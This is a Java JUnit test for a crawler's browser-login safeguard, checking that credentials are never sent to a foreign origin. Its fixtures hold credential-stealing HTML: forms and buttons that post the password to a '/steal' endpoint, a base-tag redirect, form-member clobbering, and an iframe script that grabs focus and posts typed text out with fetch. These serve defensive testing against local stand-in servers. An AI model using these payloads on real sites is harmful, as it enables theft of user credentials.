package dev.openrag.ingest.source.crawl;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import com.microsoft.playwright.PlaywrightException;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

import dev.openrag.knowledge.fetch.AddressPolicy;

/**
 * A credential typed into a page of its own site whose form sends the values to another origin: the form's {@code
 * action}, a submit button's {@code formaction} (clicked, or reached through an element inside it or a label), fields
 * that hide the form's own members, or a {@code <base>} that makes a relative action another origin's
 * (markup a wiki or forum on the site may let its users post, and a writer may point the login's selectors at). The
 * login is refused before anything is typed or submitted; the other origin receives nothing. The control: the site's own
 * form (no action, or an action on the site) still logs in.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BrowserSessionLoginTest {

    private static final String SECRET = "s3cret-canary";

    private HttpServer site;
    private HttpServer other;
    private final List<String> otherReceived = new CopyOnWriteArrayList<>();
    private final List<String> sitePosted = new CopyOnWriteArrayList<>();
    private BrowserSession browser;

    @BeforeAll
    void start() throws IOException {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/chromium")), "Debian's chromium is installed");
        other = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        // a frame that takes the focus whenever it can and sends home whatever is typed into it
        other.createContext("/frame", exchange -> {
            otherReceived.add("GET /frame");
            html(exchange, "<input id=\"x\"><script>const x = document.getElementById('x'); setInterval(() => { x.focus();"
                    + " if (x.value) { fetch('/typed', {method: 'POST', body: x.value}); x.value = ''; } }, 0);</script>");
        });
        other.createContext("/", exchange -> {
            otherReceived.add(exchange.getRequestMethod() + " " + exchange.getRequestURI() + " "
                    + new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            html(exchange, "<p>thanks</p>");
        });
        other.start();
        String otherOrigin = "http://127.0.0.1:" + other.getAddress().getPort();
        site = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        site.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            if ("POST".equals(exchange.getRequestMethod())) {
                sitePosted.add(path + " " + new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
                html(exchange, "<p id=\"welcome\">Welcome</p>");
                return;
            }
            String form = switch (path) {
                case "/login" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>";
                case "/login-on-site" -> "<form method=\"post\" action=\"/session\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"go\">Sign in</button></form>";
                case "/action" -> "<form method=\"post\" action=\"" + otherOrigin + "/steal\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"go\">Sign in</button></form>";
                case "/get-action" -> "<form action=\"" + otherOrigin + "/search\"><input id=\"pass\" name=\"q\">"
                        + "<button id=\"go\">Search</button></form>";
                case "/formaction" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"go\" formaction=\"" + otherOrigin + "/steal\">Sign in</button></form>";
                case "/base" -> "<base href=\"" + otherOrigin + "/\"><form method=\"post\" action=\"steal\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"go\">Sign in</button></form>";
                case "/clobbered" -> "<form method=\"post\" action=\"" + otherOrigin + "/steal\"><input name=\"action\" value=\"/\">"
                        + "<input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>";
                case "/inside-button" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\">"
                        + "<button formaction=\"" + otherOrigin + "/steal\"><span id=\"go\">Sign in</span></button></form>";
                case "/label" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"b\" formaction=\"" + otherOrigin + "/steal\">Sign in</button></form><label id=\"go\" for=\"b\">go</label>";
                case "/clobbered-members" -> "<form method=\"post\" action=\"/session\"><input name=\"getAttribute\">"
                        + "<input name=\"elements\"><input id=\"pass\" name=\"pass\">"
                        + "<button id=\"go\" formaction=\"" + otherOrigin + "/steal\">Sign in</button></form>";
                case "/framed" -> "<form method=\"post\"><input id=\"pass\" name=\"pass\"><button id=\"go\">Sign in</button></form>"
                        + "<iframe src=\"" + otherOrigin + "/frame\"></iframe>";
                case "/not-a-field" -> "<form method=\"post\"><div id=\"pass\">password</div><button id=\"go\">Sign in</button></form>";
                default -> "<p>nothing here</p>";
            };
            html(exchange, form);
        });
        site.start();
        browser = new BrowserSession(settings(), AddressPolicy.of(List.of("127.0.0.1/32")));
    }

    @AfterAll
    void stop() {
        if (browser != null) {
            browser.close();
        }
        if (site != null) {
            site.stop(0);
        }
        if (other != null) {
            other.stop(0);
        }
    }

    private static void html(HttpExchange exchange, String body) throws IOException {
        byte[] bytes = ("<!doctype html><html><body>" + body + "</body></html>").getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }

    @BeforeEach
    void forget() {
        otherReceived.clear();
        sitePosted.clear();
    }

    private String siteOrigin() {
        return "http://127.0.0.1:" + site.getAddress().getPort();
    }

    private boolean logIn(String path) {
        CrawlRequest.Login login = new CrawlRequest.Login(siteOrigin() + path, Map.of("#pass", LoginValue.ofCredential("bound", "pass")),
                "#go", "#welcome");
        return browser.login(login, new LoginTyping(Map.of("#pass", SECRET), Map.of("bound", List.of(siteOrigin()))));
    }

    @Test
    void aFormOfTheCredentialsSiteThatSendsItsValuesToAnotherOriginIsRefusedBeforeTyping() {
        for (String path : List.of("/action", "/get-action", "/formaction", "/base", "/clobbered", "/inside-button", "/label",
                "/clobbered-members")) {
            assertThatThrownBy(() -> logIn(path)).as(path).isInstanceOf(BrowserSession.LoginRefusedException.class)
                    .hasMessageStartingWith("login refused before typing: its form sends the values to http://127.0.0.1:"
                            + other.getAddress().getPort())
                    .hasMessageContaining("is not a site of credential 'bound'").hasMessageNotContaining(SECRET);
        }
        assertThat(otherReceived).as("what the other origin received").isEmpty();
        assertThat(sitePosted).as("nothing was submitted").isEmpty();
    }

    @Test
    void theSitesOwnFormStillLogsIn() {
        assertThat(logIn("/login")).as("a form without an action posts to its page").isTrue();
        assertThat(logIn("/login-on-site")).as("a form whose action is on the site").isTrue();
        assertThat(sitePosted).containsExactly("/login pass=" + SECRET, "/session pass=" + SECRET);
        assertThat(otherReceived).isEmpty();
    }

    /**
     * The login page of the credential's site holds a frame of another origin that takes the focus whenever it can:
     * keystrokes would go there. The value goes into the field itself, and the login still works.
     */
    @Test
    void aFrameOfAnotherOriginThatTakesTheFocusReceivesNothingTyped() {
        for (int attempt = 0; attempt < 5; attempt++) {
            assertThat(logIn("/framed")).as("attempt " + attempt).isTrue();
        }
        assertThat(otherReceived).as("the frame loaded").contains("GET /frame");
        assertThat(otherReceived).as("what the other origin received").noneMatch(request -> request.contains(SECRET));
        assertThat(sitePosted).hasSize(5).allMatch(posted -> posted.equals("/framed pass=" + SECRET));
    }

    /** A login field that is not a text field: an error that says so, and never quotes the value (Playwright's fill() did). */
    @Test
    void aFieldThatCannotBeTypedIntoIsAnErrorThatDoesNotQuoteTheValue() {
        assertThatThrownBy(() -> logIn("/not-a-field")).isInstanceOf(PlaywrightException.class)
                .hasMessageNotContaining(SECRET).hasMessageContaining("is a <div>, not an <input> or <textarea>");
        assertThat(sitePosted).isEmpty();
    }

    private static CrawlerSettings settings() {
        return new CrawlerSettings() {
            @Override
            public String chromium() {
                return "/usr/bin/chromium";
            }

            @Override
            public double requestsPerSecond() {
                return 10;
            }

            @Override
            public Duration pageTimeout() {
                return Duration.ofSeconds(5);
            }

            @Override
            public Duration renderWait() {
                return Duration.ofSeconds(1);
            }

            @Override
            public long maxPageBytes() {
                return 1_000_000;
            }

            @Override
            public int defaultMaxDepth() {
                return 0;
            }

            @Override
            public int defaultMaxPages() {
                return 1;
            }

            @Override
            public String userAgent() {
                return "OpenRAG-crawler-test";
            }

            @Override
            public Duration lease() {
                return Duration.ofSeconds(30);
            }

            @Override
            public String leaseRenewal() {
                return "off";
            }

            @Override
            public String firstClaim() {
                return "5s";
            }
        };
    }
}
